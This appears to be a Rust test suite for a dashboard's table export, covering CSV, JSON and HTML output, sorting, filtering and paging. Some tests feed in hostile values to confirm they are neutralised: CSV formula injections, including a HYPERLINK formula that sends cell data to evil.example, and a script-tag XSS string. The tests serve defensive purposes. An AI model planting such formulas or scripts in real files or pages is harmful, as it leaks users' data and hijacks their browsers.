//! Tables of anything: as pages, as CSV for programs that take it for more than text, as JSON.

use crate::xml;
use dashboard::{
    ask::Ask,
    table::{Cell, Table, column},
};
use serde_json::Value;

fn ask(query: &str) -> Ask {
    Ask::read("/c/tiny", query, "").unwrap()
}

/// A table with a text, a number that may be missing, and a count in each row.
fn table(rows: &[(&str, Option<f64>, u64)]) -> Table {
    let columns =
        vec![column("name", "Name", ""), column("loss", "Loss", "nats"), column("n", "Count", "")];
    let mut table = Table::new("board", "Models", columns);
    for (name, loss, n) in rows {
        let shown = loss.map_or("–".to_owned(), |loss| format!("{loss:.2} ± 0.01"));
        table.rows.push(vec![Cell::text(*name), Cell::number(*loss, shown), Cell::count(*n)]);
    }
    table
}

fn arranged(rows: &[(&str, Option<f64>, u64)], query: &str) -> Vec<String> {
    let mut table = table(rows);
    table.arrange(&ask(query));
    table.rows.iter().map(|row| row[0].shown.clone()).collect()
}

/// Fields of a text as RFC 4180 has them; what it does not allow ends the test.
fn fields(csv: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut rest) = (Vec::new(), Vec::new(), csv);
    while !rest.is_empty() {
        let mut value = String::new();
        if let Some(quoted) = rest.strip_prefix('"') {
            rest = quoted;
            loop {
                let (part, after) = rest.split_once('"').expect("the end of a quoted field");
                value += part;
                rest = after;
                let Some(more) = rest.strip_prefix('"') else { break };
                value.push('"');
                rest = more;
            }
        } else {
            let end = rest.find([',', '\r', '\n', '"']).expect("the end of a line");
            value += &rest[..end];
            rest = &rest[end..];
        }
        row.push(value);
        if let Some(after) = rest.strip_prefix(',') {
            rest = after;
        } else {
            rest = rest.strip_prefix("\r\n").unwrap_or_else(|| panic!("{rest:?} ends no field"));
            rows.push(std::mem::take(&mut row));
        }
    }
    assert!(row.is_empty(), "the last line has an end");
    rows
}

#[test]
fn attack_no_program_takes_a_text_of_a_table_for_a_formula() {
    for text in [
        "=1+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "-",
        "=",
        "@",
        "=\"\n,\"",
    ] {
        let csv = table(&[(text, Some(-1.5), 1)]).csv();
        let rows = fields(&csv);
        assert_eq!(rows[1][0], format!("'{text}"), "{csv:?}");
        assert_eq!(rows[1][1], "-1.5", "a number of ours is one");
        let json = table(&[(text, None, 1)]).json();
        assert_eq!(json["rows"][0]["name"], text, "programs that read JSON have it as it is");
    }
    for text in ["a=1", "1-1", "", " ", "'=1", "é@x", "—"] {
        assert_eq!(fields(&table(&[(text, None, 1)]).csv())[1][0], text, "{text} is harmless");
    }
}

#[test]
fn csv_is_read_back_as_it_was() {
    let odd = [
        "plain",
        "a,b",
        "a \"quoted\" word",
        "\"",
        "\"\"",
        "two\nlines",
        "two\r\nlines",
        "ends in \r",
        ",",
        "\u{0}\u{7}\u{1b}[2J",
        "\u{202e}desrever\u{2069}",
        "日本語;👍",
        "   ",
    ];
    let rows: Vec<(&str, Option<f64>, u64)> =
        odd.iter().enumerate().map(|(at, text)| (*text, Some(at as f64 / 3.0), u64::MAX)).collect();
    let read = fields(&table(&rows).csv());
    assert_eq!(read[0], ["name", "loss", "n"]);
    assert_eq!(read.len(), odd.len() + 1);
    for (line, (text, loss, n)) in read[1..].iter().zip(&rows) {
        assert_eq!(line[0], *text);
        let same: f64 = line[1].parse().unwrap();
        assert_eq!(Some(same.to_bits()), loss.map(f64::to_bits), "in full, not as it is shown");
        assert_eq!(line[2], n.to_string());
    }
    let long = "x\"".repeat(50_000);
    assert_eq!(fields(&table(&[(long.as_str(), None, 0)]).csv())[1], [long.as_str(), "", "0"]);
}

#[test]
fn csv_and_json_have_the_same_values_and_only_numbers_have_units() {
    let rows = [("a", Some(1.25), 3), ("b", None, 0), ("c", Some(1e-300), 9)];
    let (json, csv) = (table(&rows).json(), fields(&table(&rows).csv()));
    assert_eq!(json["caption"], "Models");
    assert_eq!(json["units"], serde_json::json!({ "loss": "nats" }));
    for (object, line) in json["rows"].as_array().unwrap().iter().zip(&csv[1..]) {
        for (key, field) in csv[0].iter().zip(line) {
            match &object[key] {
                Value::Null => assert_eq!(field, ""),
                Value::String(text) => assert_eq!(field, text),
                number => assert_eq!(field.parse::<f64>().ok(), number.as_f64()),
            }
        }
    }
    let empty = table(&[]);
    assert_eq!(empty.csv(), "name,loss,n\r\n");
    assert_eq!(empty.json()["rows"], serde_json::json!([]));
}

#[test]
fn attack_what_is_no_number_is_missing_in_files_and_sorted_last() {
    let rows = [
        ("nan", Some(f64::NAN), 1),
        ("low", Some(-2.0), 1),
        ("inf", Some(f64::INFINITY), 1),
        ("none", None, 1),
        ("high", Some(1e300), 1),
    ];
    let json = table(&rows).json().to_string();
    serde_json::from_str::<Value>(&json).expect("JSON has no NaN");
    assert_eq!(json.matches("null").count(), 3, "{json}");
    assert!(!table(&rows).csv().contains("NaN"));
    let missing = ["nan", "inf", "none"];
    let up = arranged(&rows, "sort=board.loss");
    assert_eq!(up[..2], ["low", "high"]);
    assert_eq!(up[2..], missing);
    let down = arranged(&rows, "sort=-board.loss");
    assert_eq!(down[..2], ["high", "low"]);
    assert_eq!(down[2..], missing, "last in either direction");
}

#[test]
fn numbers_are_sorted_as_numbers_and_equal_rows_stay_in_order() {
    let rows = [("a", Some(10.0), 9), ("b", Some(9.0), 100), ("c", Some(10.0), 20)];
    assert_eq!(arranged(&rows, "sort=board.loss"), ["b", "a", "c"]);
    assert_eq!(arranged(&rows, "sort=-board.loss"), ["a", "c", "b"]);
    assert_eq!(arranged(&rows, "sort=board.n"), ["a", "c", "b"]);
    for other in ["sort=board.none", "sort=board", "sort=boardXloss", "sort=--board.loss", "sort=-"]
    {
        assert_eq!(arranged(&rows, other), ["a", "b", "c"], "{other}: of another table or none");
    }
}

#[test]
fn attack_columns_of_mixed_values_are_sorted_without_an_end_of_the_server() {
    let mut mixed = table(&[]);
    for n in 0_u32..400 {
        let odd = match n % 7 {
            0 => Cell::count(u64::MAX - u64::from(n)),
            1 => Cell::number(Some(f64::from(n) * -1e300), "x"),
            2 => Cell::text(format!("{}", n * 7919 % 400)),
            3 => Cell::number(None, "–"),
            4 => Cell::number(Some(-0.0), "0"),
            5 => Cell::text(""),
            _ => Cell::count(u64::from(n * 31 % 17)),
        };
        mixed.rows.push(vec![odd, Cell::count(u64::from(n)), Cell::count(0)]);
    }
    for query in ["sort=board.name", "sort=-board.name"] {
        let mut sorted = mixed.clone();
        sorted.arrange(&ask(query));
        assert_eq!(sorted.rows.len(), 400);
        let is_missing = |row: &Vec<Cell>| row[0].value.is_null();
        let n_missing = mixed.rows.iter().filter(|row| is_missing(row)).count();
        assert!(sorted.rows[400 - n_missing..].iter().all(is_missing), "{query}");
        let is_text: Vec<bool> = sorted.rows.iter().map(|row| row[0].value.is_string()).collect();
        let n_turns = is_text.windows(2).filter(|pair| pair[0] != pair[1]).count();
        assert!(n_turns <= 2, "numbers are beside numbers, and texts beside texts: {query}");
    }
}

#[test]
fn a_filter_looks_at_what_is_shown_and_at_what_it_stands_for() {
    let key = "5GrwvaEF5zXb26Fz9rcQpDWS57CtERHpNehXCPcNoHGKutQY";
    let mut rows = table(&[("Ünï/Model", Some(3.25), 7), ("other", None, 12)]);
    rows.rows[1][0] = Cell::text(key).shown("5Grwva…utQY");
    let found = |query: &str| {
        let mut table = rows.clone();
        table.arrange(&ask(query));
        table.rows.len()
    };
    assert_eq!(found("q=%C3%BCN%C3%8F"), 1, "letters of any size");
    assert_eq!(found("q=9rcQpDWS57"), 1, "the middle of a key, which is not shown");
    assert_eq!(found("q=%E2%80%A6ut"), 1, "and what is");
    assert_eq!(found("q=3.25"), 1);
    assert_eq!(found("q=%C2%B1"), 1, "the sign of an interval");
    assert_eq!(found("q=e"), 2);
    assert_eq!(found("q=%5B%5E"), 0, "no pattern, but a text");
    assert_eq!(found("q="), 2);
    assert_eq!(found("q=%20"), 1, "a blank is a text as well");
}

#[test]
fn a_long_table_comes_in_pages_of_which_none_is_missing() {
    let names: Vec<String> = (0..600).map(|n| format!("row-{n:03}")).collect();
    let rows: Vec<(&str, Option<f64>, u64)> =
        names.iter().map(|name| (name.as_str(), Some(1.0), 1)).collect();
    let long = table(&rows);
    let mut seen = Vec::new();
    for (page, n_rows) in [("1", 256), ("2", 256), ("3", 88)] {
        let html = long.html(&ask(&format!("page={page}&q=row&sort=board.name"))).into_string();
        let root = xml::parse(&format!("<div>{html}</div>"));
        let cells = root.named("td").into_iter().map(|cell| cell.text.clone());
        let shown: Vec<String> = cells.filter(|text| text.starts_with("row-")).collect();
        assert_eq!(shown.len(), n_rows);
        seen.extend(shown);
        assert!(html.contains(&format!("page {page} of 3")), "{html}");
        assert_eq!(html.contains("← before"), page != "1");
        assert_eq!(html.contains("after →"), page != "3");
        let nav = root.child("nav");
        assert!(nav.named("a").iter().all(|link| link.get("href").unwrap().contains("q=row")));
    }
    assert_eq!(seen, names);
    for (page, said) in [("99", "page 3 of 3"), ("0", "page 1 of 3"), ("x", "page 1 of 3")] {
        assert!(long.html(&ask(&format!("page={page}"))).into_string().contains(said), "{page}");
    }
    assert_eq!(fields(&long.csv()).len(), 601, "a file has them all");
    let short = table(&rows[..256]).html(&ask("")).into_string();
    assert!(!short.contains("<nav"), "one page needs no list of pages");
}

#[test]
fn headings_say_how_a_table_is_sorted_and_turn_it_round() {
    let heading = |query: &str| {
        let html = table(&[("a", Some(1.0), 1)]).html(&ask(query)).into_string();
        let root = xml::parse(&format!("<div>{html}</div>"));
        let heading = root.named("th")[1].clone();
        let href = heading.child("a").get("href").unwrap().to_owned();
        (heading.get("aria-sort").unwrap().to_owned(), href)
    };
    let of = |state: &str, href: &str| (state.to_owned(), href.to_owned());
    assert_eq!(heading(""), of("none", "/c/tiny?sort=board.loss#board"));
    assert_eq!(heading("sort=board.loss"), of("ascending", "/c/tiny?sort=-board.loss#board"));
    assert_eq!(heading("sort=-board.loss"), of("descending", "/c/tiny?sort=board.loss#board"));
    assert_eq!(heading("sort=board.n&page=2").0, "none", "another column is");
    let kept = heading("sort=-board.loss&page=2&q=x&block=7").1;
    assert_eq!(kept, "/c/tiny?block=7&q=x&sort=board.loss#board", "from the first page on");
}

#[test]
fn attack_cells_links_and_captions_are_text() {
    let hostile = "\"><script>alert(1)</script><a href='x'>";
    let mut shown = table(&[(hostile, None, 1)]);
    shown.caption = hostile.to_owned();
    shown.rows[0][0] = Cell::text(hostile).to(format!("/c/{hostile}")).class("bad");
    let query = "q=%22%3E%3Cscript%3E&sort=%3Cscript%3E&x%22%3E=%3Cscript%3E";
    let html = shown.html(&ask(query)).into_string();
    let root = xml::parse(&format!("<div>{html}</div>"));
    assert!(root.named("script").is_empty(), "{html}");
    let link = root.named("td")[0].child("a");
    assert_eq!(link.text, hostile);
    assert_eq!(link.get("href"), Some(format!("/c/{hostile}").as_str()));
    assert_eq!(root.named("caption")[0].children[0].text, hostile);
}

#[test]
fn a_table_without_rows_says_so_across_its_width() {
    let mut none = table(&[]);
    none.empty = "nobody <came>";
    let root = xml::parse(&format!("<div>{}</div>", none.html(&ask("page=9")).into_string()));
    let cell = root.named("td")[0];
    assert_eq!((cell.text.as_str(), cell.get("colspan")), ("nobody <came>", Some("3")));
    assert_eq!(root.named("tr").len(), 2, "the headings and this");
}
